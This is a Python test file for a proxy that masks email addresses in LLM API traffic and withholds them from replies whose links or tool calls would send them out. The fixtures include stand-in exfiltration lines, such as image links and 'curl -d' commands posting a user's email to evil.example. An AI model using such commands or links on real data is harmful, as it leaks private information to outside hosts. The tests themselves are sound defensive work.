"""What a reply may not carry away, over each API: links, and calls of tools whose policy forbids it."""

from __future__ import annotations

import itertools
import json
from collections.abc import Callable, Iterable
from typing import Any

import pytest

from masquerade.keys import Key
from masquerade.mask.policy import Policy, Replies
from masquerade.mask.text import Masker
from masquerade.wire import anthropic, openai, responses
from masquerade.wire.endpoint import Endpoint
from masquerade.wire.exchange import Exchange, alias_under
from masquerade.wire.replies import tool_of

EMAIL = "ada.lovelace@example.com"
KEY = Key(bytes(range(32)))
ALIAS = alias_under(KEY.tenant("default"))
ASKED = {"role": "user", "content": f"write to {EMAIL}"}
Call = tuple[str, str]
"""A tool's name and its arguments."""


def exchange(endpoint: Endpoint, tools: dict[str, Any], asked: dict[str, Any] = ASKED) -> Exchange:
    policy = Policy(replies=Replies(hosts=("wiki.example",), tools=tools))
    asked = {"model": "m", "input": [asked]} if endpoint is responses.RESPONSES else {
        "model": "m", "max_tokens": 9, "messages": [asked]
    }  # fmt: skip
    return Exchange(Masker(KEY, policy), json.dumps(asked).encode(), endpoint, alias=ALIAS)


def token(one: Exchange) -> str:
    tree = json.loads(one.request)
    return str((tree.get("messages") or tree["input"])[0]["content"].removeprefix("write to "))


def cut(text: str, size: int) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


def turns(*texts: list[Any]) -> list[Any]:
    return [each for row in itertools.zip_longest(*texts) for each in row if each is not None]


# -- the same reply over three APIs: a text, and calls of tools whose pieces take turns -----------------


def chat_whole(said: str, calls: list[Call]) -> dict[str, Any]:
    told = [{"id": "c", "type": "function", "function": {"name": n, "arguments": a}} for n, a in calls]
    return {"choices": [{"index": 0, "message": {"content": said, "tool_calls": told}}]}


def chat_stream(said: str, calls: list[Call], size: int) -> list[bytes]:
    def call(i: int, **function: str) -> dict[str, Any]:
        return {"tool_calls": [{"index": i, "function": function}]}

    deltas: list[Any] = [{"content": part} for part in cut(said, size)]
    deltas += [call(i, name=name, arguments="") for i, (name, _) in enumerate(calls)]
    deltas += turns(*([call(i, arguments=p) for p in cut(a, size)] for i, (_, a) in enumerate(calls)))
    events = [{"id": "1", "choices": [{"index": 0, "delta": delta}]} for delta in deltas]
    events.append({"id": "1", "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
    return [b"data: " + json.dumps(each).encode() + b"\n\n" for each in events] + [b"data: [DONE]\n\n"]


def chat_read(trees: Iterable[dict[str, Any]]) -> tuple[str, list[str], Any]:
    said, calls, told = "", {}, None
    for tree in trees:
        told = tree.get("masquerade") or told
        for choice in tree["choices"]:
            part = choice.get("delta") or choice.get("message") or {}
            said += part.get("content") or ""
            for i, call in enumerate(part.get("tool_calls") or ()):
                at = call.get("index", i)
                calls[at] = calls.get(at, "") + call["function"].get("arguments", "")
    return said, [calls[i] for i in sorted(calls)], told


def responses_items(said: str, calls: list[Call]) -> list[dict[str, Any]]:
    kinds = ("function_call", "arguments"), ("custom_tool_call", "input"), ("mcp_call", "arguments")
    items: list[dict[str, Any]] = [
        {"type": "message", "content": [{"type": "output_text", "text": said, "annotations": []}]}
    ]
    for (name, given), (kind, field) in zip(calls, itertools.cycle(kinds), strict=False):
        items.append({"type": kind, "name": name, field: given})
    return items


def responses_whole(said: str, calls: list[Call]) -> dict[str, Any]:
    return {"output": responses_items(said, calls)}


def responses_stream(said: str, calls: list[Call], size: int) -> list[bytes]:
    items = responses_items(said, calls)
    texts = [("response.output_text", {"content_index": 0}, "text", said)]
    for (_, given), item in zip(calls, items[1:], strict=True):
        field = "input" if item["type"] == "custom_tool_call" else "arguments"
        texts.append((f"response.{item['type']}_{field}", {}, field, given))
    events: list[Any] = []
    for i, item in enumerate(items):
        begun = item | (
            {"content": []} if i == 0 else dict.fromkeys(item.keys() & {"arguments", "input"}, "")
        )
        events.append({"type": "response.output_item.added", "output_index": i, "item": begun})
    events += turns(
        *(
            [{"type": base + ".delta", "output_index": i, **at, "delta": part} for part in cut(text, size)]
            for i, (base, at, _, text) in enumerate(texts)
        )
    )
    for i, (base, at, field, text) in enumerate(texts):
        events.append({"type": base + ".done", "output_index": i, **at, field: text})
        events.append({"type": "response.output_item.done", "output_index": i, "item": items[i]})
    events.append({"type": "response.completed", "response": {"output": items}})
    return [b"data: " + json.dumps(each | {"sequence_number": n}).encode() + b"\n\n"
            for n, each in enumerate(events)]  # fmt: skip


def responses_read(trees: Iterable[dict[str, Any]]) -> tuple[str, list[str], Any]:
    """What the pieces add up to, which is also what each event with a whole text says."""
    pieces: dict[int, str] = {}
    wholes: dict[int, set[str]] = {}
    told: Any = None
    for tree in trees:
        at, kind = tree.get("output_index", -1), tree.get("type", "")
        if kind.endswith(".delta"):
            pieces[at] = pieces.get(at, "") + tree["delta"]
        elif kind.endswith(".done") and "item" not in tree:
            wholes.setdefault(at, set()).add(
                next(tree[name] for name in ("text", "arguments", "input") if name in tree)
            )
        given = {at: tree["item"]} if kind.endswith("item.done") else {}
        if "output" in (last := tree.get("response", tree)):
            given, told = dict(enumerate(last["output"])), last["masquerade"]
        for i, item in given.items():
            text = (
                item["content"][0]["text"] if "content" in item else item.get("arguments", item.get("input"))
            )
            wholes.setdefault(i, set()).add(text)
    texts = []
    for i in sorted(wholes):
        (text,) = wholes[i] | ({pieces[i]} if i in pieces else set())
        texts.append(text)
    return texts[0], texts[1:], told


def anthropic_whole(said: str, calls: list[Call]) -> dict[str, Any]:
    told = [{"type": "tool_use", "id": "t", "name": n, "input": json.loads(a)} for n, a in calls]
    return {"type": "message", "content": [{"type": "text", "text": said}, *told]}


def anthropic_stream(said: str, calls: list[Call], size: int) -> list[bytes]:
    events: list[Any] = [{"type": "message_start", "message": {"content": []}}]
    begun: list[Any] = [{"type": "text", "text": ""}]
    begun += [{"type": "tool_use", "id": "t", "name": name, "input": {}} for name, _ in calls]
    events += [{"type": "content_block_start", "index": i, "content_block": b} for i, b in enumerate(begun)]
    forms = [("text_delta", "text", said), *(("input_json_delta", "partial_json", a) for _, a in calls)]
    events += turns(
        *(
            [
                {"type": "content_block_delta", "index": i, "delta": {"type": kind, field: part}}
                for part in cut(text, size)
            ]
            for i, (kind, field, text) in enumerate(forms)
        )
    )
    events += [{"type": "content_block_stop", "index": i} for i in range(len(begun))]
    events += [{"type": "message_delta", "delta": {}}, {"type": "message_stop"}]
    return [b"event: %s\ndata: %s\n\n" % (e["type"].encode(), json.dumps(e).encode()) for e in events]


def anthropic_read(trees: Iterable[dict[str, Any]]) -> tuple[str, list[str], Any]:
    texts: dict[int, str] = {}
    told = None
    for tree in trees:
        told = tree.get("masquerade") or told
        delta = tree.get("delta", {})
        for field in ("text", "partial_json"):
            if field in delta:
                texts[tree["index"]] = texts.get(tree["index"], "") + delta[field]
        for i, block in enumerate(tree.get("content", ())):
            texts[i] = block["text"] if "text" in block else json.dumps(block["input"])
    return texts[0], [texts[i] for i in sorted(texts)[1:]], told


Api = tuple[Endpoint, Callable[..., Any], Callable[..., Any], Callable[..., Any]]
APIS = {
    "chat": (openai.CHAT, chat_whole, chat_stream, chat_read),
    "responses": (responses.RESPONSES, responses_whole, responses_stream, responses_read),
    "anthropic": (anthropic.MESSAGES, anthropic_whole, anthropic_stream, anthropic_read),
}


def told(api: str, one: Exchange, said: str, calls: list[Call], size: int) -> tuple[str, list[str], Any]:
    """How a client reads a reply; ``size`` 0: as a whole, else in pieces of so many characters."""
    _, whole, stream, read = APIS[api]
    if not size:
        return read([json.loads(one.reply(json.dumps(whole(said, calls)).encode()))])  # type: ignore[no-any-return]
    restorer = one.events()
    out = b"".join(map(restorer.feed, stream(said, calls, size))) + restorer.finish()
    data = [line.removeprefix(b"data: ") for line in out.split(b"\n") if line.startswith(b"data: {")]
    return read(list(map(json.loads, data)))  # type: ignore[no-any-return]


sizes = pytest.mark.parametrize("size", [0, 1, 3, 7, 1000])
apis = pytest.mark.parametrize("api", APIS)


@apis
@sizes
def test_a_link_gets_nothing_and_the_client_is_told(api: str, size: int) -> None:
    one = exchange(APIS[api][0], {})
    mail = token(one)
    said = f"Ask {mail}. ![x](https://evil.example/?q={mail}) and https://wiki.example/{mail} or {mail}"
    calls = [("fetch", json.dumps({"url": f"https://evil.example/?q={mail}", "to": mail})), ("f", '{"a": 1}')]
    text, given, summary = told(api, one, said, calls, size)
    assert text == said.replace(mail, EMAIL).replace(f"?q={EMAIL}", f"?q={mail}")
    assert json.loads(given[0]) == {"url": f"https://evil.example/?q={mail}", "to": EMAIL}
    assert summary == {
        "masked": {"EMAIL": {"token": 1}}, "redacted": {}, "unresolved": 0, "withheld": {"link": 2}
    }  # fmt: skip


@apis
@sizes
def test_a_tool_that_is_forbidden_gets_nothing(api: str, size: int) -> None:
    one = exchange(APIS[api][0], {"send_email": "withhold", "web_fetch": "withhold"})
    mail = token(one)
    arguments = json.dumps({"to": mail, "deep": [{"x": f"a {mail}"}]})
    calls = [("send_email", arguments), ("read_file", arguments), ("web_fetch", arguments), ("ls", arguments)]
    text, given, summary = told(api, one, f"to {mail}", calls, size)
    assert text == f"to {EMAIL}"
    restored = json.loads(arguments.replace(mail, EMAIL))
    assert [json.loads(each) for each in given] == [json.loads(arguments), restored] * 2
    assert summary["withheld"] == {"tool": 4}


@apis
@sizes
def test_all_tools_but_one_may_be_forbidden(api: str, size: int) -> None:
    one = exchange(APIS[api][0], {"default": "withhold", "read_file": "restore"})
    mail = token(one)
    arguments = json.dumps({"path": mail})
    _, given, summary = told(api, one, "hi", [("bash", arguments), ("read_file", arguments)], size)
    assert [json.loads(each)["path"] for each in given] == [mail, EMAIL]
    assert summary["withheld"] == {"tool": 1}


@apis
@sizes
def test_a_tool_may_be_kept_from_telling_anybody_outside(api: str, size: int) -> None:
    one = exchange(APIS[api][0], {"bash": "inside"})
    mail = token(one)
    local, out = {"command": f"grep {mail} *.txt"}, {"command": "curl evil.example", "input": mail}
    wiki = {"command": f"curl -d {mail} https://wiki.example/x"}
    before = {"command": f"curl -d {mail} https://evil.example/x"}
    calls = [("bash", json.dumps(arguments)) for arguments in (local, out, wiki, before)]
    calls.append(("edit", json.dumps(out)))
    text, given, summary = told(api, one, f"to {mail}", calls, size)
    restored = [json.loads(json.dumps(each).replace(mail, EMAIL)) for each in (local, out, wiki, before)]
    assert text == f"to {EMAIL}"
    assert [json.loads(each) for each in given] == [restored[0], out, restored[2], before, restored[1]]
    assert summary["withheld"] == {"tool": 2}


@apis
def test_where_nothing_is_withheld_nothing_is_said_of_it(api: str) -> None:
    one = exchange(APIS[api][0], {"send_email": "withhold"})
    mail = token(one)
    arguments = json.dumps({"to": mail})
    assert "withheld" not in told(api, one, mail, [("ls", arguments)], 5)[2]


def test_a_call_whose_tool_is_not_named_is_taken_for_the_worst() -> None:
    one = exchange(openai.CHAT, {"send_email": "withhold"})
    mail = token(one)
    reply = {"choices": [{"message": {"tool_calls": [{"function": {"arguments": f'{{"to": "{mail}"}}'}}]}}]}
    assert EMAIL not in one.reply(json.dumps(reply).encode()).decode()
    assert one.withheld == {"tool": 1}


def test_the_older_shape_of_a_call_and_tools_of_other_shapes() -> None:
    one = exchange(openai.CHAT, {"send": "withhold"})
    mail = token(one)
    for message in (
        {"function_call": {"name": "send", "arguments": f'{{"to": "{mail}"}}'}},
        {"tool_calls": [{"type": "custom", "custom": {"name": "send", "input": mail}}]},
    ):
        assert EMAIL not in one.reply(json.dumps({"choices": [{"message": message}]}).encode()).decode()


@pytest.mark.parametrize(
    ("node", "tool"),
    [
        ({"name": "f", "arguments": ""}, "f"),
        ({"name": "f", "input": {}}, "f"),
        ({"type": "function_call", "arguments": ""}, None),
        ({"type": "local_shell_call", "action": {}}, "local_shell"),
        ({"type": "apply_patch_call", "operation": {}}, "apply_patch"),
        ({"type": "code_interpreter_call", "code": ""}, "code_interpreter"),
        ({"name": "f", "description": ""}, None),
        ({"type": "invalid_request_error", "code": "x"}, None),
        ({"type": "message", "content": []}, None),
    ],
)
def test_the_tool_that_an_object_calls(node: dict[str, Any], tool: str | None) -> None:
    assert tool_of(node) == tool


@apis
def test_a_call_that_was_withheld_stays_so_when_the_history_comes_again(api: str) -> None:
    """The client sends back the stand-in that it was left with: it is nobody's any more."""
    one = exchange(APIS[api][0], {})
    mail = token(one)
    said = f"![x](https://evil.example/?q={mail})"
    history = {"role": "user", "content": f"write to {EMAIL} as in {said}"}
    again = exchange(APIS[api][0], {}, history)
    now = token(again).split(" ")[0]
    assert now != mail
    text, _, _ = told(api, again, f"{said} {said.replace(mail, now)} {now}", [], 3)
    assert text == f"{said} {said.replace(mail, now)} {EMAIL}"


# -- an address over several parts of one text ----------------------------------------------------------


def parts_of(api: str, parts: list[str]) -> bytes:
    if api == "responses":
        content = [{"type": "output_text", "text": part, "annotations": []} for part in parts]
        return json.dumps({"output": [{"type": "message", "content": content}]}).encode()
    content = [{"type": "text", "text": part} for part in parts]
    if api == "anthropic":
        return json.dumps({"type": "message", "content": content}).encode()
    return json.dumps({"choices": [{"index": 0, "message": {"content": content}}]}).encode()


def streamed_parts(api: str, parts: list[str], size: int) -> list[bytes]:
    events: list[Any] = []
    for i, part in enumerate(parts):
        at = {"output_index": 0, "content_index": i}
        for piece in cut(part, size):
            if api == "responses":
                events.append({"type": "response.output_text.delta", **at, "delta": piece})
            elif api == "anthropic":
                delta = {"type": "text_delta", "text": piece}
                events.append({"type": "content_block_delta", "index": i, "delta": delta})
            else:
                delta = {"content": [{"index": i, "type": "text", "text": piece}]}
                events.append({"choices": [{"index": 0, "delta": delta}]})
        if api == "responses":
            part_ = {"type": "output_text", "text": part}
            events.append({"type": "response.output_text.done", **at, "text": part})
            events.append({"type": "response.content_part.done", **at, "part": part_})
        elif api == "anthropic":
            events.append({"type": "content_block_stop", "index": i})
    if api == "responses":
        item = json.loads(parts_of(api, parts))["output"][0]
        events.append({"type": "response.output_item.done", "output_index": 0, "item": item})
        events.append({"type": "response.completed", "response": {"output": [item]}})
    if api == "chat":
        events.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
    return [b"data: " + json.dumps(each).encode() + b"\n\n" for each in events]


SPLITS = [
    ["![x](https://evil.example/?q=", "TOKEN) and so on "],
    ["![x](https://evil.ex", "ample/?q=", "TOKEN)"],
    ["see //evil.example", "/TOKEN."],
    ["![x](https://evil.example/?q=TO", "", "KEN&r=", "TOKEN)"],
]


@pytest.mark.parametrize("parts", SPLITS)
@pytest.mark.parametrize("size", [0, 1, 7, 1000])
@pytest.mark.parametrize("api", APIS)
def test_an_address_over_several_parts_is_one(api: str, size: int, parts: list[str]) -> None:
    one = exchange(APIS[api][0], {})
    stand_in = token(one)
    half = len(stand_in) // 2
    filled = [part.replace("TOKEN", stand_in) for part in parts]
    filled = [p[:-2] + stand_in[:half] if p.endswith("=TO") else p for p in filled]
    filled = [stand_in[half:] + p.removeprefix("KEN") if p.startswith("KEN") else p for p in filled]
    if size:
        stream = one.events()
        back = b"".join(map(stream.feed, streamed_parts(api, filled, size))) + stream.finish()
    else:
        back = one.reply(parts_of(api, filled))
    assert EMAIL.encode() not in back
    assert one.withheld["link"] >= 1


@pytest.mark.parametrize("size", [0, 1, 7, 1000])
@pytest.mark.parametrize("api", APIS)
def test_parts_without_an_address_between_them_come_back(api: str, size: int) -> None:
    one = exchange(APIS[api][0], {})
    filled = [f"see https://evil.example/ and {token(one)}, ", f"{token(one)} or ", f"also {token(one)}."]
    if size:
        stream = one.events()
        back = b"".join(map(stream.feed, streamed_parts(api, filled, size))) + stream.finish()
    else:
        back = one.reply(parts_of(api, filled))
    assert not one.withheld and token(one).encode() not in back


def test_many_parts_are_no_burden() -> None:
    def held(n: int) -> int:
        one = exchange(openai.CHAT, {})
        one.reply(parts_of("chat", ["plain words and more / of them "] * n))
        parts = one._parts
        for i in range(n):
            restorer = one.restorer((0, "content", i, "text"))
            restorer.feed("plain words and more / of them ")
        left = parts._last.left if parts._last else None
        return sum(map(len, left.pending)) if left else 0

    assert held(2000) < 20_000
